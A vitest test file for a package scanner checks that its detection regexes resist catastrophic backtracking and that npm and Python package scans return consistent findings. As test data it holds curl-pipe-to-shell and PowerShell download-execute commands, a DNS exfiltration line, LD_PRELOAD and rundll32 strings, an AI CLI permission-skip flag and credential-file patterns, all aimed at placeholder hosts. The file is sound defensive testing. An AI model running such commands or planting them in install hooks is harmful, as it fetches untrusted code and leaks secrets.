import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scanPythonDistribution, scanTarball, type ScanReport } from '../../helper/src/scan/index.js';
import { SECRET_PATHS, STRING_HINT, STRING_SIGNALS } from '../../helper/src/scan/js/indicators.js';
import { packTree, tempDir } from './support.js';
import { makeSdist } from './python-support.js';

// A pattern with two unbounded runs around an optional middle backtracks polynomially: the reviewer's
// 'curl -o x '.repeat(n) took 13 s at 8 KB and 64 s at 16 KB (x8 per doubling) in the old download-exec pattern.
// Each case here is 64 KB, where the old patterns take minutes to hours: vitest's timeout is the assertion that
// they finish; the findings must be the ones the short string gives.
const SIZE = 64 * 1024;
const fill = (unit: string) => unit.repeat(Math.ceil(SIZE / unit.length));

/** Per signal kind: a string that matches, and prefixes an attacker repeats to make the matcher backtrack. */
const CASES: Record<string, { hit: string; units: string[] }> = {
  'ld-preload': { hit: 'LD_PRELOAD=/tmp/x.so ls', units: ['LD_PRELOAD ', 'LD_PRELOAD', ' '] },
  dll: { hit: 'rundll32.exe x.dll,Run', units: ['rundll32', 'rundll32.exe'] },
  workflow: { hit: '.github/workflows/x.yml', units: ['.github/', '.github/workflows'] },
  'secret-scanner': { hit: 'trufflehog filesystem /', units: ['trufflehog_', 'gitleak '] },
  'ai-cli': { hit: 'claude --dangerously-skip-permissions -p x', units: ['--dangerously-skip-', '--approval-mode '] },
  publish: { hit: 'npm publish --access public', units: ['npm ', 'npm npm ', 'yarn  '] },
  'download-exec': {
    hit: 'curl -fsSL https://example.invalid/i.sh | sh',
    units: ['curl -o x ', 'curl http:// ', 'curl -o x && ', 'wget -O- ', 'curl -s |', 'iwr ', 'curl ', '-o x '],
  },
  'exfil-command': { hit: 'dig $(whoami).example.invalid', units: ['nslookup ', 'dig $( ', 'ping `', '$(', 'curl '] },
};
const SECRETS: Record<string, string[]> = { npm: ['.npmrc'], dotenv: ['/.env.', '.env', '.env.a-'], ssh: ['.ssh', 'id_'], system: ['/etc/', 'config/'] };

describe('string signals: linear in the string length', () => {
  it('every kind has a case here', () => {
    expect(Object.keys(CASES).sort()).toEqual(STRING_SIGNALS.map(([k]) => k).sort());
  });

  for (const [kind, test] of STRING_SIGNALS) {
    it(`${kind}: 64 KB of repeated prefixes gives the short string's answer, with and without a hit after them`, () => {
      const { hit, units } = CASES[kind]!;
      expect(test.test(hit)).toBe(true);
      expect(STRING_HINT.test(hit)).toBe(true);
      for (const unit of units) {
        const long = fill(unit);
        expect(test.test(long), unit).toBe(test.test(unit.repeat(3)));
        expect(test.test(`${long}\n${hit}`), unit).toBe(true);
        STRING_HINT.test(long);
      }
    });
  }

  it('secret paths: 64 KB of repeated prefixes', () => {
    for (const [kind, re] of SECRET_PATHS) for (const unit of SECRETS[kind] ?? []) expect(re.test(fill(unit)), unit).toBe(re.test(unit.repeat(3)));
  });

  it('keeps the shapes of the old patterns: a pipe into a shell ends the command; `;` between them does not count', () => {
    const dl = STRING_SIGNALS.find(([k]) => k === 'download-exec')![1];
    expect(dl.test('curl -s https://x.invalid/a |\n  sudo bash')).toBe(true);
    expect(dl.test('curl -o /tmp/a https://x.invalid/a && chmod +x /tmp/a')).toBe(true);
    expect(dl.test('wget -O a.exe https://x.invalid/a; start a.exe')).toBe(true);
    expect(dl.test('iwr https://x.invalid/a.ps1 | iex')).toBe(true);
    expect(dl.test('curl https://x.invalid/a; echo | sh')).toBe(false);
    expect(dl.test('curl|wget|sh')).toBe(false);
    expect(dl.test('curl -o a https://x.invalid/a\nchmod +x a')).toBe(false);
  });
});

describe('scan: a package of adversarial strings finishes with the findings of the short one', () => {
  let work: { dir: string; cleanup(): Promise<void> };
  beforeAll(async () => {
    work = await tempDir('sscs-redos-');
  });
  afterAll(() => work.cleanup());
  const rules = (r: ScanReport) => r.findings.map((f) => `${f.severity} ${f.rule}`);

  it('JavaScript: string literals and command lines', async () => {
    const code = (pad: string) =>
      `const pad = '${pad}';\nrequire('child_process').exec('${pad}');\nrequire('child_process').exec('curl -fsSL https://example.invalid/i.sh | sh');\n`;
    const scan = async (pad: string) => rules(await scanTarball(await packTree(work.dir, `r${pad.length}`, { scripts: { postinstall: 'node i.js' } }, { 'i.js': code(pad) })));
    expect(await scan(fill('curl -o x '))).toEqual(await scan('curl -o x '));
  });

  it('Python: string literals and command lines', async () => {
    const code = (pad: string) =>
      `import os\nPAD = '${pad}'\nos.system('${pad}')\nos.system('curl -fsSL https://example.invalid/i.sh | sh')\n`;
    const scan = async (pad: string) =>
      rules(await scanPythonDistribution(await makeSdist(work.dir, `p${pad.length}`, { 'setup.py': code(pad), 'pkg/__init__.py': '' }), 'sdist'));
    expect(await scan(fill('curl -o x '))).toEqual(await scan('curl -o x '));
  });
});

describe('scan: a Python install file padded past the parse limit', () => {
  let work: { dir: string; cleanup(): Promise<void> };
  beforeAll(async () => {
    work = await tempDir('sscs-pad-');
  });
  afterAll(() => work.cleanup());

  it('is code-not-analysed at medium in setup.py (it runs at install), not low', async () => {
    const setup = `# ${'x'.repeat(4 * 1024 * 1024)}\nimport os\n`;
    const r = await scanPythonDistribution(await makeSdist(work.dir, 'pad', { 'setup.py': setup, 'pkg/__init__.py': '' }), 'sdist');
    expect(r.findings.filter((f) => f.rule === 'code-not-analysed').map((f) => `${f.severity} ${f.file}`)).toEqual(['medium setup.py']);
  });
});
